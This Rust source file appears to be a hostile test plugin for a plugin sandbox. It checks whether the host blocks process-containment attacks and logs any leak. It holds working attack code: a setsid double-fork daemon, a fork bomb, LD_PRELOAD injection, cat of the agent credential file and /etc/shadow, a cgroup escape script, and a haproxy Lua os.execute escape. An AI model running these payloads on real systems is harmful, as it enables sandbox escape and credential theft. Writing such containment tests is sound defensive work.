//! Attacks on process containment and the environment of programs (`proc-*`). They need a
//! manifest that allows `/bin/sh` (tests write their own `plugin.toml`).
//!
//! - `proc-daemonize`: spawns a shell that double-forks into a new session (`setsid`) and
//!   leaves 100 children, each carrying `<marker>-<i>` (setting `marker`) on its command line,
//!   so a test can look for survivors in `/proc`.
//! - `proc-fork-bomb`: spawns `count` (setting, default 64) supervised processes carrying the
//!   marker; the hook fails with how many started and the first refusal.
//! - `proc-ld-preload`: runs and spawns allowed programs with `LD_PRELOAD`, `PYTHONPATH` and a
//!   `PATH` pointing into the service directory; every refusal (or `LEAKED` for a variable
//!   that got through) goes to `hostile.log` in the service directory, and the hook fails.
//!
//! Attacks through the programs a plugin is granted, which run as the agent's program user
//! (each writes what happened to `hostile.log` and fails the hook only on a leak):
//! - `proc-cat-credential`: a granted `/bin/cat` on `<server root>/agent/bootstrap.json` (which
//!   holds the launch credential), `<server root>/agent/credential` (the one replacing it) and
//!   `/etc/shadow`; the log says `refused: <cat's error>` or `LEAKED <n> bytes`, never the text.
//! - `proc-whoami`: `/usr/bin/id` through `run`, and through `spawn` a `/bin/sh` writing `id`
//!   into `spawned-id` in the service directory (so the handed-over directory is writable).
//! - `proc-cgroup-escape`: a spawned `/bin/sh` writes its pid into every root
//!   `cgroup.procs` (`ESCAPED <file>` or `refused <file>` in `escape.log`), then leaves a
//!   `setsid` process carrying the marker.
//! - `proc-haproxy-lua`: the shipped haproxy grant's escape: a config that `lua-load`s a
//!   script whose `os.execute` records `id`, cats the credential and `/etc/shadow`, tries the
//!   root cgroups and leaves a `setsid` process with the marker; `haproxy -c` runs it, and
//!   the shell's output lands in `lua.log`.
//! - `proc-crash`: spawns `crash`, a shell that prints the service's first password and a
//!   fatal error, then exits 3 at once, every time the supervisor starts it again.

use stratus_plugin_sdk::files::{io_error, service_path};
use stratus_plugin_sdk::service::*;

/// The daemon: `$1` is the marker; a first run double-forks a `setsid` copy of itself.
const DAEMON: &str = r#"if [ "$2" != child ]; then
  setsid /bin/sh "$0" "$1" child >/dev/null 2>&1 &
  exit 0
fi
i=0
while [ $i -lt 100 ]; do
  /bin/sh -c 'sleep 300; :' "$1-$i" &
  i=$((i+1))
done
wait
"#;

pub(crate) fn attack(ctx: &ServiceContext, name: &str) -> Result<(), HookError> {
    let marker = setting(ctx, "marker").unwrap_or("stratus-hostile-marker");
    match name {
        "proc-daemonize" => daemonize(ctx, marker),
        "proc-fork-bomb" => {
            let count = setting(ctx, "count")
                .and_then(|c| c.parse().ok())
                .unwrap_or(64);
            fork_bomb(marker, count)
        }
        "proc-ld-preload" => ld_preload(ctx),
        "proc-cat-credential" => cat_credential(ctx),
        "proc-whoami" => whoami(ctx),
        "proc-cgroup-escape" => cgroup_escape(ctx, marker),
        "proc-haproxy-lua" => haproxy_lua(ctx, marker),
        "proc-crash" => crash(ctx),
        other => Err(HookError::fatal(format!("unknown attack `{other}`"))),
    }
}

fn spec(name: &str, args: &[&str], env: Vec<(String, String)>) -> host::ProcessSpec {
    host::ProcessSpec {
        name: name.into(),
        program: "/bin/sh".into(),
        args: args.iter().map(|a| a.to_string()).collect(),
        env,
        working_dir: None,
    }
}

/// A process that crashes at once with output on both streams, a password among it.
const CRASH: &str =
    r#"echo "starting with password $1"; echo "fatal: no configuration" >&2; exit 3"#;

fn crash(ctx: &ServiceContext) -> Result<(), HookError> {
    let password = ctx
        .credentials
        .first()
        .map(|c| c.password.clone())
        .unwrap_or_default();
    let pid = host::spawn(&spec(
        "crash",
        &["-c", CRASH, "crash", &password],
        Vec::new(),
    ))
    .map_err(HookError::fatal)?;
    log::info(&format!("crashing process started as pid {pid}"));
    Ok(())
}

fn daemonize(ctx: &ServiceContext, marker: &str) -> Result<(), HookError> {
    let script = service_path(ctx, "daemon.sh");
    std::fs::write(&script, DAEMON).map_err(|e| io_error("writing", &script, &e))?;
    let script = script.display().to_string();
    let pid =
        host::spawn(&spec("daemon", &[&script, marker], Vec::new())).map_err(HookError::fatal)?;
    log::info(&format!("hostile daemon started as pid {pid}"));
    Ok(())
}

fn fork_bomb(marker: &str, count: u32) -> Result<(), HookError> {
    let mut started = 0;
    for i in 0..count {
        let tag = format!("{marker}-{i}");
        match host::spawn(&spec(
            &format!("bomb-{i}"),
            &["-c", "sleep 300; :", &tag],
            Vec::new(),
        )) {
            Ok(_) => started += 1,
            Err(e) => {
                return Err(HookError::fatal(format!(
                    "hostile fork-bomb started {started} of {count}; refused: {e}"
                )));
            }
        }
    }
    Err(HookError::fatal(format!(
        "hostile fork-bomb started {started} of {count}: LEAKED, nothing refused"
    )))
}

fn ld_preload(ctx: &ServiceContext) -> Result<(), HookError> {
    let dir = &ctx.service_dir;
    let lib = service_path(ctx, "evil.so");
    // Not a real library: the variables must be refused before anything loads it.
    std::fs::write(&lib, b"\x7fELF").map_err(|e| io_error("writing", &lib, &e))?;
    let attempts = [
        ("LD_PRELOAD", lib.display().to_string()),
        ("PYTHONPATH", dir.clone()),
        ("PATH", format!("{dir}/bin:/usr/bin:/bin")),
    ];
    let mut refusals = Vec::new();
    for (var, value) in attempts {
        let env = vec![(var.to_string(), value)];
        let run = host::run(&host::Command {
            env: env.clone(),
            ..crate::command("/bin/sh", &["-c", "true"])
        });
        let spawned = host::spawn(&spec("preload", &["-c", "true"], env));
        match (run, spawned) {
            (Err(r), Err(s)) => refusals.push(format!("run: {r} / spawn: {s}")),
            _ => refusals.push(format!("{var}: LEAKED")),
        }
    }
    // The host reports the first denial as the hook's failure; the file keeps them all.
    let log = service_path(ctx, "hostile.log");
    std::fs::write(&log, refusals.join("\n")).map_err(|e| io_error("writing", &log, &e))?;
    Err(HookError::fatal(refusals.join(" | ")))
}

/// `<root>` of `<root>/mnt/services/<service>`.
fn server_root(ctx: &ServiceContext) -> String {
    let dir = std::path::Path::new(&ctx.service_dir);
    dir.ancestors().nth(3).unwrap_or(dir).display().to_string()
}

/// Writes `lines` to `hostile.log`; a line saying `LEAKED` fails the hook.
fn report(ctx: &ServiceContext, lines: &[String]) -> Result<(), HookError> {
    let log = service_path(ctx, "hostile.log");
    std::fs::write(&log, lines.join("\n")).map_err(|e| io_error("writing", &log, &e))?;
    match lines.iter().find(|l| l.contains("LEAKED")) {
        Some(l) => Err(HookError::fatal(l.clone())),
        None => Ok(()),
    }
}

fn cat_credential(ctx: &ServiceContext) -> Result<(), HookError> {
    let targets = [
        format!("{}/agent/bootstrap.json", server_root(ctx)),
        format!("{}/agent/credential", server_root(ctx)),
        "/etc/shadow".to_string(),
    ];
    let lines: Vec<String> = targets
        .iter()
        .map(|t| match host::run(&crate::command("/bin/cat", &[t])) {
            Ok(o) if o.exit_code == Some(0) => format!("{t}: LEAKED {} bytes", o.stdout.len()),
            Ok(o) => format!("{t}: refused: {}", o.stderr.trim()),
            Err(e) => format!("{t}: refused: {e}"),
        })
        .collect();
    report(ctx, &lines)
}

/// Waits (at most ten seconds) until the supervised process `name` has exited.
fn wait_exit(name: &str) {
    for _ in 0..200 {
        if !matches!(host::query_process(name), host::ProcessState::Running(_)) {
            return;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
}

fn whoami(ctx: &ServiceContext) -> Result<(), HookError> {
    let ran = host::run(&crate::command("/usr/bin/id", &[])).map_err(HookError::fatal)?;
    let file = service_path(ctx, "spawned-id");
    let target = file.display().to_string();
    host::spawn(&spec(
        "whoami",
        &["-c", "id > \"$1\"", "whoami", &target],
        Vec::new(),
    ))
    .map_err(HookError::fatal)?;
    wait_exit("whoami");
    let spawned = std::fs::read_to_string(&file).unwrap_or_else(|e| format!("no file: {e}"));
    report(
        ctx,
        &[
            format!("run: {}", ran.stdout.trim()),
            format!("spawn: {}", spawned.trim()),
        ],
    )
}

/// Shell lines that try to move the shell into every root cgroup, appending to `$LOG`.
const ESCAPE: &str = r#"for f in /sys/fs/cgroup/cgroup.procs /sys/fs/cgroup/*/cgroup.procs; do
  if echo $$ > "$f" 2>/dev/null; then echo "ESCAPED $f"; else echo "refused $f"; fi
done >> "$LOG"
setsid /bin/sh -c 'sleep 300; :' "$MARK" >/dev/null 2>&1 &
"#;

fn cgroup_escape(ctx: &ServiceContext, marker: &str) -> Result<(), HookError> {
    let log = service_path(ctx, "escape.log").display().to_string();
    let script = format!("LOG='{log}'; MARK='{marker}'\n{ESCAPE}");
    host::spawn(&spec("escape", &["-c", &script], Vec::new())).map_err(HookError::fatal)?;
    wait_exit("escape");
    Ok(())
}

fn haproxy_lua(ctx: &ServiceContext, marker: &str) -> Result<(), HookError> {
    let log = service_path(ctx, "lua.log").display().to_string();
    let root = server_root(ctx);
    let shell = format!(
        "LOG='{log}'; MARK='{marker}'\nid >> \"$LOG\"\n\
         cat '{root}/agent/bootstrap.json' >> \"$LOG\" 2>&1\ncat /etc/shadow >> \"$LOG\" 2>&1\n{ESCAPE}"
    );
    let sh = service_path(ctx, "x.sh");
    std::fs::write(&sh, shell).map_err(|e| io_error("writing", &sh, &e))?;
    let lua = service_path(ctx, "x.lua");
    let code = format!("os.execute([[/bin/sh {}]])\n", sh.display());
    std::fs::write(&lua, code).map_err(|e| io_error("writing", &lua, &e))?;
    let cfg = service_path(ctx, "x.cfg");
    let text = format!(
        "global\n  lua-load {}\ndefaults\n  mode http\n",
        lua.display()
    );
    std::fs::write(&cfg, text).map_err(|e| io_error("writing", &cfg, &e))?;
    let cfg = cfg.display().to_string();
    let out = host::run(&crate::command("/usr/sbin/haproxy", &["-c", "-f", &cfg]))
        .map_err(HookError::fatal)?;
    report(
        ctx,
        &[format!(
            "haproxy -c: exit {:?} {}",
            out.exit_code,
            out.stderr.trim()
        )],
    )
}
